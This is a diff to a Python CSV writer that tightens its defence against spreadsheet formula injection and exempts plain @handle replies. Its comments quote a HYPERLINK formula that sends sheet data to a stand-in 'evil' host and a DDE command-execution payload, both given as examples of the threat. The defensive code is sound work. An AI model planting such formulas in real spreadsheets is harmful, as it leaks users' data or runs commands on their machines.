@@ -74,15 +74,21 @@ def _table(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) 
 
 
 # A cell a spreadsheet would run as a formula: a post reading `=HYPERLINK("https://evil/?"&A1, "click")` would send
-# the sheet's data away on a click. Such text cells get a leading `'` (OWASP's advice), numbers stay as they are.
-# An `@` only before a function call (`@SUM(`): a reply starting with its `@handle` is ordinary text.
-_FORMULA = re.compile(r"[=+\-\t\r]|@\w+\(")
+# the sheet's data away on a click. Text cells starting with =, +, -, @, a tab or a CR get a leading `'` (OWASP's CSV
+# injection advice); numbers stay as they are.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# Except a reply that is only its @handle (a Mastodon one with its @instance) and ordinary words: read as a formula it
+# names nothing that runs, since a function needs `(`, DDE (`@cmd|' /C calc'!A0`) needs `|` and a link to another
+# file needs `!` or `[`; only letters, digits, spaces, newlines and . , ? ' ’ may follow, anything else is defused.
+_PLAIN_REPLY = re.compile(r"@\w+(?:@\w+(?:[.-]\w+)*)?(?:[ \n][\w .,?'\u2019\n]*)?")
 
 
 def _csv_cell(value: Any) -> Any:
     if isinstance(value, bytes | bytearray | memoryview):
         value = _bytes_as_text(value)
-    return "'" + value if isinstance(value, str) and _FORMULA.match(value) else value
+    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_REPLY.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def _csv(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
